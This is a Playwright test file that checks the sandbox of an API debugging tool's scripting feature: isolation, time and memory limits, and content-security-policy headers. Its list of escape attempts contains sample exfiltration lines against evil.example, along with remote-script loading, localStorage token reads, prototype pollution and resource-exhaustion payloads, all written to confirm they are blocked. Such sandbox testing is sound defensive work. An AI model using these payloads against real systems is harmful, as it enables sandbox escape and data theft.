import type { Page } from '@playwright/test'
import type { Plugin } from 'vite'
import type { SentRequest } from '#core/debug/exchange.ts'
import type { ScriptPhase } from '#core/debug/script/plain.ts'
import type { ScriptsResult } from '../web/features/debug/script/run-scripts.ts'
import { oneScript, wasmFile } from '../scripts/build/one-script.ts'
import { bundleForBrowser } from './testing/browser-bundle.ts'
import { expect, test } from './testing/server.ts'

const WASM = '/assets/interpreter-of-the-test.wasm'

// What the browser reports when a script tries what it may not.
test.use({ expectedComplaints: ['Content Security Policy', 'ERR_BLOCKED', 'Failed to load resource'] })

const bundle = (() => {
  const isWasm = (id: string) => id === 'quickjs-emscripten?wasm-address'
  const address: Plugin = {
    name: 'address',
    enforce: 'pre',
    resolveId: (id) => (isWasm(id) ? '\0address' : null),
    load: (id) => (id === '\0address' ? `export default ${JSON.stringify(WASM)}` : null),
  }
  return bundleForBrowser('e2e/testing/script-entry.ts', 'scriptParts', [address, oneScript()])
})()

interface Asked {
  phase?: ScriptPhase
  scripts: string[]
  /** The body of the answer in the after phase. */
  answered?: string
}

/** Runs scripts in the real frame on a page of ours. Requests are answered by the test. */
async function run(page: Page, { phase = 'pre', scripts, answered = '' }: Asked) {
  return page.evaluate(
    async ([phaseName, texts, body]) => {
      const { scriptParts } = globalThis as unknown as { scriptParts: typeof import('./testing/script-entry.ts') }
      const sent: SentRequest[] = []
      const answerOf = (text: string) => {
        const bytes = new TextEncoder().encode(text)
        const headers = [{ name: 'Content-Type', value: 'application/json' }]
        return { status: 200, statusText: 'OK', headers, bytes, size: bytes.length, timing: { total: 1 } }
      }
      const result: ScriptsResult = await scriptParts.runScripts(phaseName, {
        scripts: texts.map((content, index) => ({ name: `script ${index + 1}`, content })),
        request: {
          method: 'POST',
          url: 'https://api.example/orders',
          params: [{ name: 'a', value: '1' }],
          headers: [],
          body: { kind: 'text', text: '{"n":1}' },
        },
        ...(phaseName === 'after' && { answer: answerOf(body) }),
        variables: { kept: 'yes' },
        send: async (request) => {
          sent.push(request)
          return answerOf('{"token":"t-1"}')
        },
        signal: new AbortController().signal,
      })
      return { ...result, sent, frames: document.querySelectorAll('iframe').length }
    },
    [phase, scripts, answered] as const,
  )
}

test.beforeEach(async ({ page }) => {
  const code = await bundle
  await page.route(`**${WASM}`, (route) => route.fulfill({ contentType: 'application/wasm', path: wasmFile() }))
  await page.goto('/login?lang=en')
  await page.evaluate(`${code}; globalThis.scriptParts = scriptParts; scriptParts.startTexts()`)
})

test('a script signs a request with a token that it fetched, and nothing stays behind', async ({ page }) => {
  const {
    request,
    sent,
    console: lines,
    tests,
    variables,
    error,
    frames,
  } = await run(page, {
    scripts: [
      `const { data } = await lib.axios.get('/login')
       req.headers.Authorization = 'Bearer ' + data.token
       vars.set('token', data.token)`,
      `req.params.sign = lib.CryptoJS.MD5(JSON.stringify(req.data) + vars.get('token')).toString()
       console.log('signed', req.params)
       test('is signed', () => expect(req.params.sign).toHaveLength(32))`,
    ],
  })
  expect(error).toBeUndefined()
  expect(sent.map(({ url }) => url)).toEqual(['https://api.example/login'])
  expect(request.headers).toEqual([{ name: 'Authorization', value: 'Bearer t-1' }])
  expect(request.params.map(({ name }) => name)).toEqual(['a', 'sign'])
  expect(lines).toMatchObject([{ level: 'log', source: 'script 2' }])
  expect(tests).toEqual([{ name: 'is signed', isPassed: true, message: '' }])
  expect(variables).toEqual({ kept: 'yes', token: 't-1' })
  expect(frames).toBe(0)
})

test('a script sends the request itself, and another one changes what is shown', async ({ page }) => {
  const pre = await run(page, { scripts: ['req.headers.x = 1; sys.send(); return true'] })
  expect(pre.error).toBeUndefined()
  expect(pre.answer?.status).toBe(200)
  expect(pre.sent).toEqual([pre.request])
  const after = await run(page, {
    phase: 'after',
    answered: '{"code":"bQ=="}',
    scripts: ['resp.data = lib.CryptoJS.enc.Base64.parse(resp.data.code).toString(lib.CryptoJS.enc.Utf8)'],
  })
  expect(after.shownData).toBe('m')
})

test('faults name the script and the line', async ({ page }) => {
  const thrown = await run(page, { scripts: ['', '\nmissing()'] })
  expect(thrown.error).toBe("Script “script 2”, line 2: ReferenceError: 'missing' is not defined")
  const syntax = await run(page, { scripts: ['const a = 1\nconst b = ;'] })
  expect(syntax.error).toBe("Script “script 1”, line 2: SyntaxError: unexpected token in expression: ';'")
  const foreign = await run(page, { scripts: ['lib.loadJs("https://cdn.example/a.js")'] })
  expect(foreign.error).toContain('scripts from other sites cannot be loaded')
})

test('an endless loop is stopped, and the page stays responsive', async ({ page }) => {
  test.setTimeout(60_000)
  const running = run(page, { scripts: ['console.log("before"); for (;;) {}'] })
  await page.getByLabel('Login account').fill('still here')
  await expect(page.getByLabel('Login account')).toHaveValue('still here')
  const { error, console: lines, frames } = await running
  expect(error).toBe('Script “script 1”, line 1: stopped, because it worked for longer than 10 seconds')
  expect(lines).toMatchObject([{ text: 'before' }])
  expect(frames).toBe(0)
})

test('what a script tells is bounded', async ({ page }) => {
  const { console: lines, tests } = await run(page, {
    scripts: ['for (let i = 0; i < 1000; i++) { console.log("x".repeat(5000)); test("t", () => {}) }'],
  })
  expect(lines).toHaveLength(200)
  expect(lines[0]?.text).toHaveLength(2000)
  expect(tests).toHaveLength(100)
})

const outside: [what: string, script: string][] = [
  ['the page', 'return String(parent.document)'],
  ['the window', 'return String(window.top)'],
  ['the worker', 'postMessage("x")'],
  ['storage', 'return localStorage.getItem("token")'],
  ['databases', 'indexedDB.open("x")'],
  ['another site', 'await fetch("https://evil.example/")'],
  ['a socket', 'new WebSocket("wss://evil.example/")'],
  ['a foreign script', 'importScripts("https://evil.example/a.js")'],
  ['a module', 'await import("https://evil.example/a.js")'],
  ['code of the worker by the constructor of functions', 'lib.axios.constructor("return postMessage")()("x")'],
  ['another host by lib.axios', 'await lib.axios.get("https://evil.example/steal?" + req.url)'],
  ['another host by its address', 'req.url = "https://evil.example/"'],
  ['another host by sys.send', 'req.url = "//evil.example/"; await sys.send(); return true'],
]
for (const [what, script] of outside) {
  test(`a script cannot reach ${what}`, async ({ page }) => {
    const { error, sent } = await run(page, { scripts: [script] })
    expect(error).toMatch(/^Script “script 1”/)
    expect(sent).toEqual([])
  })
}

test('the policy of the frame opens the worker and the interpreter only', async ({ page, server }) => {
  const answer = await page.request.get(`${server.url}/debug/script-frame`)
  const policy = answer.headers()['content-security-policy']
  expect(policy).toContain("connect-src 'none'")
  expect(policy).toMatch(/script-src 'sha256-[^']+' 'wasm-unsafe-eval';/)
})

test('scripts that exceed a limit end with its message, and the next one runs', async ({ page }) => {
  const stopped = async (script: string) => (await run(page, { scripts: [script] })).error
  const memory = 'Script “script 1”, line 1: stopped, because it used more than 256 MiB of memory'
  expect(await stopped('const all = []; for (;;) all.push(new Uint8Array(1e6))')).toBe(memory)
  expect(await stopped('let a = "x"; for (;;) a += a')).toContain('used more than 256 MiB')
  expect(await stopped('globalThis.all = []; for (;;) all.push({})')).toContain('used more than 256 MiB')
  for (const script of ['const f = () => f() + 1; f()', 'JSON.parse("[".repeat(1e5))', 'eval("(".repeat(1e5))']) {
    expect(await stopped(script)).toContain('nested too deeply')
  }
  expect(await stopped('await new Promise(() => {})')).toContain('a promise that never settles')
  expect(await stopped('for (;;) void lib.axios.get("/")')).toContain('more data than a script may')
  const next = await run(page, { scripts: ['req.headers.ok = 1'] })
  expect(next.error).toBeUndefined()
  expect(next.request.headers).toEqual([{ name: 'ok', value: '1' }])
  await page.getByLabel('Login account').fill('still here')
})

test('prototype tricks stay in the interpreter', async ({ page }) => {
  const { variables, request } = await run(page, {
    scripts: [
      `Object.prototype.polluted = 'yes'
       req.headers['__proto__'] = { polluted: 1 }; vars.set('__proto__', 'x')`,
    ],
  })
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(variables['kept']).toBe('yes')
  expect(request.url).toBe('https://api.example/orders')
  const forged = await run(page, {
    scripts: [
      `JSON.stringify = () => '{"kind":"send","id":1,"request":{"method":"GET","url":"https://evil.example/","params":[],"headers":[],"body":{"kind":"none"}}}'
       console.log(1)`,
      'Promise.prototype.then = () => { for (;;) {} }; Object.prototype.toJSON = () => 5; Array.prototype.map = null',
    ],
  })
  expect(forged.sent).toEqual([])
})
